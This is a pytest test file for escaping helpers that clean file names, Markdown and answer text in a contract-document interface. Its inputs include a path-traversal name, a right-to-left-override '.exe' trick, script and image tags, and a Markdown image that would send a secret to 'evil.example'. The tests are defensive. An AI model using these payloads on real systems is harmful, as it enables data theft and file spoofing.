"""Names and words that come from files and people, made harmless."""

from __future__ import annotations

import pytest

from core.ui.contracts.upload import display_name
from core.ui.escape import answer_md, markup, md, plain, short, told_apart


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("contract.pdf", "contract.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\x\\契約書.docx", "契約書.docx"),
        ("a\"b'c<script>.pdf", "a\"b'c<script>.pdf"),
        ("line\nbreak\x00\u202efdp.exe", "line breakfdp.exe"),
        ("😀契約.pdf", "😀契約.pdf"),
        ("x" * 300 + ".pdf", "x" * 133 + "…" + "x" * 62 + ".pdf"),
        ("..", "名前のないファイル"),
        ("", "名前のないファイル"),
    ],
)
def test_display_name(raw: str, expected: str) -> None:
    assert display_name(raw) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Plain words", "Plain words"),
        ("**a** _b_ `c`", "\\*\\*a\\*\\* \\_b\\_ \\`c\\`"),
        ("$x$ :red[y] :smile:", "\\$x\\$ \\:\u2060red\\[y\\] \\:\u2060smile\\:\u2060"),
        ("![i](http://e.example)", "\\!\\[i\\]\\(http\\:\u2060\\/\\/e\\.example\\)"),
        ("<script>", "\\<script\\>"),
        ("www.a.example a@b.example", "www\u2060\\.a\\.example a\u2060\\@b\\.example"),
    ],
)
def test_markdown(text: str, expected: str) -> None:
    assert md(text) == expected


def test_short_keeps_both_ends() -> None:
    assert short("abcdefghijklmnopqrstuvwxyz", 10) == "abcdef…xyz"
    assert short("short") == "short"


def test_plain_and_markup() -> None:
    assert plain("a\r\nb\tc\u200bd") == "a b cd"
    assert markup('<a href="x">\'&') == "&lt;a href=&quot;x&quot;&gt;&#x27;&amp;"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("契約3 **X** [3 · p. 1]", "契約3 **X** [3 · p. 1]"),
        ("![pixel](http://evil.example/?q=secret)", "![pixel]\u2060(http:\u2060//evil.example/?q=secret)"),
        ("[click](http://evil.example)", "[click]\u2060(http:\u2060//evil.example)"),
        ("see https://evil.example now", "see https:\u2060//evil.example now"),
        ("www.evil.example, a@evil.example", "www\u2060.evil.example, a\u2060@evil.example"),
        ("[1]: https://evil.example", "[1]\u2060: https:\u2060//evil.example"),
        ("[click][ref]", "[click]\u2060[ref]"),
        ("<img src=x>", "<\u2060img src=x>"),
        ("already \\<b\\>", "already \\<\u2060b\\>"),
        ("https:\\//x www\\.x _www.x a\\@x", "https:\u2060\\//x www\u2060\\.x _www\u2060.x a\u2060\\@x"),
        ("http&#58;//x &amp; R&D", "http&\u2060#58;//x &\u2060amp; R&D"),
        ("$1 \\$2 \\\\$3", "\\$1 \\$2 \\\\\\$3"),
    ],
)
def test_answers_carry_no_pictures_or_links(text: str, expected: str) -> None:
    assert answer_md(text) == expected


def test_names_that_stand_for_several_are_numbered() -> None:
    """A choice is told by its name alone: of two conversations that began alike the other one was opened."""
    names = {"a": "Which law?", "b": "Which law? (2)", "c": "Which law?", "d": "Which law?"}
    assert told_apart(names) == {"a": "Which law?", "b": "Which law? (2)", "c": "Which law? (3)", "d": "Which law? (4)"}
